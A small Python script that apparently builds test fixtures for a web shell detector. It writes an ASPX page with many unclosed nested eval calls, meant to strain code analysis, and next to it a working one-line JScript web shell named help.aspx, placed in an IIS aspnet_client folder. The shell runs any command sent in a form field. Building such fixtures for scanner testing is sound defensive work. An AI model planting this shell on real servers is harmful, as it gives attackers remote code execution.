"""nested_eval.py DIR K: a page in aspnet_client whose one code block opens K
nested eval( calls and never closes them (code analysis cost per call token),
beside a small real shell that must still be found."""
import os
import sys

out, k = sys.argv[1], int(sys.argv[2])
d = os.path.join(out, "inetpub", "wwwroot", "aspnet_client", "system_web")
os.makedirs(d, exist_ok=True)
with open(os.path.join(d, "errorFE.aspx"), "w") as f:
    f.write("<%@ Page Language=\"C#\" %>\n<% " + "eval(" * k + "\n%>\n")
with open(os.path.join(d, "help.aspx"), "w") as f:
    f.write('<%@ Page Language="Jscript"%><%eval(Request.Form["cmd"],"unsafe");%>\n')
